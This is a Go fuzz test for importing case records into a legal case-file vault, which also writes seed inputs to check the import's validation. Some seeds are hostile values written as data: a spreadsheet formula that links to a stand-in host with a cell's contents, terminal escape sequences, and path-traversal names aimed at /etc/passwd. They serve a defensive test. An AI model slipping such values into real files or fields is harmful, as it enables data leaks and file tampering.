package store

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"casefile/model"
)

// Fuzzing a bundle's cases after the bundle verified: the fuzzed bytes
// are one case as a signed bundle carries it (store.CaseExport's JSON, the
// cases/N.json entry), cleaned and checked as bundle.Read does
// (CleanExport, CheckExport), then imported as the app and `bundle import`
// do (ImportBundle, with the documents' bytes and, when keep says so, one
// difference of the preview declined) into a real vault that holds the
// base cases of the apply targets (testdata/fuzz-apply-base.json), so a
// seed can update a case the vault has. Every document's bytes are
// fuzzDocBytes, which the seeds' document records describe.

// FuzzImportCase: whatever a case entry holds,
//   - nothing panics;
//   - a case CheckExport refuses is refused by the import too, and a
//     refused import writes nothing;
//   - an imported case leaves `check` clean, importing it again changes
//     nothing, and so does a later edit of the case here, at the next
//     unlock (a lawyer correcting a field the bundle set: issue 17's
//     far-future clock made check fail then).
func FuzzImportCase(f *testing.F) {
	fb := newFuzzBase(f, filepath.Join("testdata", "fuzz-apply-base.json"))
	f.Add([]byte(`{}`), uint8(0))
	f.Fuzz(func(t *testing.T, data []byte, keep uint8) {
		decode := func() []CaseExport {
			var ce CaseExport
			if json.Unmarshal(data, &ce) != nil {
				return nil
			}
			return []CaseExport{ce}
		}
		cases := decode()
		if cases == nil {
			return // the bundle package refuses it as corrupt
		}
		CleanExport(&cases[0])
		checkErr := CheckExport(&cases[0])
		v := fb.vault(t)
		defer fb.done(t)
		before := vaultDigest(t, v)
		opts := ImportOptions{Documents: fuzzFeed(cases)}
		if checkErr == nil && keep > 0 {
			pre, err := v.PreviewImport(cases)
			if err != nil {
				t.Fatalf("preview of a checked case: %v", err)
			}
			if chs := pre[0].Changes; len(chs) > 0 {
				c := chs[int(keep)%len(chs)]
				opts.KeepLocal = map[string][]FieldRef{cases[0].ID: {{Kind: c.Kind, ID: c.ID, Field: c.Field}}}
			}
		}
		cases = decode()
		res, err := v.ImportBundle(cases, opts)
		t.Logf("checked: %v; imported: %+v, %v", checkErr, res, err)
		if checkErr != nil && err == nil {
			t.Fatalf("CheckExport refused (%v), the import took it", checkErr)
		}
		if err != nil {
			if vaultDigest(t, v) != before {
				t.Fatalf("a refused import (%v) wrote to the vault", err)
			}
			return
		}
		mustCheckFuzz(t, v)
		again := vaultDigest(t, v)
		cases = decode()
		if _, err := v.ImportBundle(cases, ImportOptions{Documents: fuzzFeed(cases)}); err != nil {
			t.Fatalf("imported once, refused the second time: %v", err)
		}
		if opts.KeepLocal == nil && vaultDigest(t, v) != again {
			t.Fatal("importing the same case again changed the vault")
		}
		mustCheckFuzz(t, v)
		// A lawyer corrects the case here afterwards, at a later unlock.
		v = fb.reopen(t)
		if _, err := v.SetCaseFields(cases[0].ID, map[string]string{"prefecture": "Préfecture corrigée (fictive)", "outcome": "Corrigé après l'import (fictif)", "person.phone": "+33 6 11 11 11 11"}); err != nil {
			var verr *model.ValidationError
			if !errors.As(err, &verr) {
				t.Fatalf("editing the imported case: %v", err)
			}
		}
		mustCheckFuzz(t, v)
	})
}

// fuzzFeed hands fuzzDocBytes for every document the cases name, in
// order, as a bundle's document entries would.
func fuzzFeed(cases []CaseExport) DocumentFeed {
	return func(each func(string, io.Reader) error) error {
		for i := range cases {
			for _, d := range cases[i].Documents() {
				if err := each(d.ID, bytes.NewReader(fuzzDocBytes)); err != nil {
					return err
				}
			}
		}
		return nil
	}
}

// TestWriteImportFuzzSeeds rewrites testdata/fuzz/FuzzImportCase when
// CASEFILE_WRITE_SEEDS=1: cases exported by a real vault (one the base
// holds, updated; one new), then the hostile cases.
func TestWriteImportFuzzSeeds(t *testing.T) {
	if os.Getenv("CASEFILE_WRITE_SEEDS") != "1" {
		t.Skip("set CASEFILE_WRITE_SEEDS=1 to rewrite testdata/fuzz/FuzzImportCase")
	}
	b, err := os.ReadFile(filepath.Join("testdata", "fuzz-apply-base.json"))
	if err != nil {
		t.Fatal(err)
	}
	var base []ExportChange
	if err := json.Unmarshal(b, &base); err != nil {
		t.Fatal(err)
	}
	a := newVault(t)
	if _, err := a.ApplyRemote(base, nil); err != nil {
		t.Fatal(err)
	}
	list, err := a.ListCases()
	if err != nil || len(list) == 0 {
		t.Fatal(err)
	}
	ref := list[0].Ref
	if _, err := a.SetCaseFields(ref, map[string]string{"prefecture": "Préfecture de test (Kerguelen)"}); err != nil {
		t.Fatal(err)
	}
	ex, err := a.ExportCases([]string{ref})
	if err != nil {
		t.Fatal(err)
	}
	updated := ex[0]
	files := fillClinic(t, a, 1, 21)
	if _, err := a.AddDocument(files[0].ID, "lettre-fictive.pdf", bytes.NewReader(fuzzDocBytes)); err != nil {
		t.Fatal(err)
	}
	ex, err = a.ExportCases([]string{files[0].Ref})
	if err != nil {
		t.Fatal(err)
	}
	fresh := ex[0]
	seeds := map[string]CaseExport{"updated": updated, "new": fresh}

	// Issue 17: a re-signed bundle whose operation carries a clock of 2100.
	far := model.HLCAt(time.Date(2100, 1, 1, 0, 0, 0, 0, time.UTC))
	future := cloneExport(t, updated)
	for i, r := range future.Records {
		if r.Kind == KindCase {
			future.Records[i].Ver["prefecture"] = far
		}
	}
	for i, ch := range future.History {
		for _, op := range ch.Ops {
			if op.Entity == KindCase && op.Field == "prefecture" && string(op.Value) == `"Préfecture de test (Kerguelen)"` {
				future.History[i].HLC = far
			}
		}
	}
	seeds["future"] = future
	// A field this version does not know, in the record and its history.
	unknown := cloneExport(t, fresh)
	for i, r := range unknown.Records {
		if r.Kind == KindCase {
			unknown.Records[i].Data = json.RawMessage(strings.Replace(string(r.Data), `{`, `{"no_such_field":"x",`, 1))
			unknown.Records[i].Ver["no_such_field"] = unknown.History[0].HLC
			unknown.History[0].Ops = append(unknown.History[0].Ops, Op{Entity: KindCase, ID: r.ID, Field: "no_such_field", Value: json.RawMessage(`"x"`)})
		}
	}
	seeds["unknown-field"] = unknown
	// Values written otherwise than this version writes them.
	spaced := cloneExport(t, fresh)
	for i, r := range spaced.Records {
		if r.Kind == KindPerson {
			spaced.Records[i].Data = json.RawMessage(strings.ReplaceAll(string(r.Data), `":`, `": `))
		}
	}
	seeds["spaced"] = spaced
	hostile := func(name, field, value string) {
		c := cloneExport(t, fresh)
		for i, r := range c.Records {
			if r.Kind == KindCase {
				var m map[string]json.RawMessage
				json.Unmarshal(r.Data, &m)
				m[field] = json.RawMessage(value)
				c.Records[i].Data, _ = json.Marshal(m)
				for j, ch := range c.History {
					for k, op := range ch.Ops {
						if op.Entity == KindCase && op.Field == field {
							c.History[j].Ops[k].Value = json.RawMessage(value)
						}
					}
				}
			}
		}
		seeds[name] = c
	}
	// A document named with a path and control characters (CleanExport
	// cleans it before CheckExport, which refuses an unclean name).
	doc := cloneExport(t, fresh)
	for i, r := range doc.Records {
		if r.Kind == KindDocument {
			doc.Records[i].Data = json.RawMessage(strings.Replace(string(r.Data), `"lettre-fictive.pdf"`, `"../..\\..\u001b[2J/etc/passwd"`, 1))
		}
	}
	for i, ch := range doc.History {
		for k, op := range ch.Ops {
			if op.Entity == KindDocument && op.Field == "name" {
				doc.History[i].Ops[k].Value = json.RawMessage(`"../..\\..\u001b[2J/etc/passwd"`)
			}
		}
	}
	seeds["doc-traversal"] = doc
	hostile("formula", "prefecture", `"=HYPERLINK(\"http://evil.example/?\"\u0026A2,\"click\")"`)
	hostile("control", "lawyer", `"Me \u001b]0;owned\u0007\u001b[31mRouge"`)
	hostile("traversal-ref", "ref", `"../../../../tmp/x"`)
	dir := filepath.Join("testdata", "fuzz", "FuzzImportCase")
	os.RemoveAll(dir)
	for name, c := range seeds {
		b, err := json.Marshal(c)
		if err != nil {
			t.Fatal(err)
		}
		writeImportSeed(t, dir, name, b, 0)
		if name == "updated" || name == "future" {
			// The same, with the preview's first difference declined.
			writeImportSeed(t, dir, name+"-keep", b, 1)
		}
	}
	// A hundred empty records and history entries.
	writeImportSeed(t, dir, "empty-records", []byte(`{"id":"`+fresh.ID+`","ref":"`+fresh.Ref+`","records":[`+strings.Repeat(`{},`, 99)+`{}],"history":[`+strings.Repeat(`{},`, 99)+`{}]}`), 0)
}

func writeImportSeed(t *testing.T, dir, name string, b []byte, keep uint8) {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	seed := fmt.Sprintf("go test fuzz v1\n[]byte(%q)\nbyte(%q)\n", b, keep)
	if err := os.WriteFile(filepath.Join(dir, name), []byte(seed), 0o644); err != nil {
		t.Fatal(err)
	}
}

func cloneExport(t *testing.T, c CaseExport) CaseExport {
	t.Helper()
	b, err := json.Marshal(c)
	if err != nil {
		t.Fatal(err)
	}
	var out CaseExport
	if err := json.Unmarshal(b, &out); err != nil {
		t.Fatal(err)
	}
	return out
}
